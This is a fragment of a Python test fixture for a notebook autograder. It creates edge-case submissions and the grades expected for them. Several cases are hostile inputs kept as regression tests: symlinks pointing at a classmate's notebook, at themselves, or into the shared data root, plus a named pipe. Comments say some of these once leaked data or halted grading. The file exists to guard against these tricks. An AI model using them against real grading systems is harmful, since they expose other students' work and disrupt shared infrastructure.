    put("many_cells", json.dumps(many).encode(), {g: (0, "too_large", "cells") for g in zero})
    for student in ("x y", "x_y", "x_y-2"):
        put(student, b"not a notebook", {g: (0, "not_a_notebook", None) for g in zero})
    (folder / "zz.ipynb").mkdir()                               # a folder named like a notebook: no student
    nbformat.write(sol, folder / "zz.ipynb" / f"{ws}.ipynb")
    (folder / "linked").mkdir()                                 # a link to a correct notebook: not read
    (folder / "linked" / f"{ws}.ipynb").symlink_to(folder / "aa_copy_victim" / f"{ws}.ipynb")
    expected["linked"] = {g: (0, "unreadable", "symbolic link") for g in zero}
    (folder / "looped").mkdir()                                 # a link to itself: it stopped the class run
    (folder / "looped" / f"{ws}.ipynb").symlink_to(f"{ws}.ipynb")
    expected["looped"] = {g: (0, "unreadable", "symbolic link") for g in zero}
    from course_utils.data import data_root                    # a link into the data root: it took the data
    (folder / "into_data").mkdir()                              # from every classmate's sandbox
    (folder / "into_data" / f"{ws}.ipynb").symlink_to(data_root())
    expected["into_data"] = {g: (0, "unreadable", "symbolic link") for g in zero}
    (folder / "fifo_file").mkdir()                               # a named pipe as the submission: not opened
    os.mkfifo(folder / "fifo_file" / f"{ws}.ipynb")
    expected["fifo_file"] = {g: (0, "unreadable", "not a regular file") for g in zero}
    # what a student's folder holds never makes a name nor a second submission: one row per folder
    put("many_copies", sol, dict(full))                        # graded: the shallowest named like the worksheet
    for i in range(6):
        (folder / "many_copies" / f"s{i}").mkdir()
        nbformat.write(stub, folder / "many_copies" / f"s{i}" / f"{ws}.ipynb")
    put("two_notebooks", stub, {g: (0, "ambiguous", "none named") for g in zero}, name="luc.ipynb")
    nbformat.write(sol, folder / "two_notebooks" / "x.ipynb")   # not "two_notebooks-luc", nor "-x"
    put("no_notebook", b"PK\x03\x04", {g: (0, "not_a_notebook", "no notebook") for g in zero}, name="work.zip")
    nbformat.write(sol, folder / "no_notebook" / f".{ws}.ipynb")   # hidden: not looked at
    long_name = "é" * 120                                       # 246 bytes of file name: legal, and a student
    nbformat.write(stub, folder / f"{long_name}.ipynb")
    expected[long_name] = {g: (0, "not_implemented", None) for g in zero}
    return expected
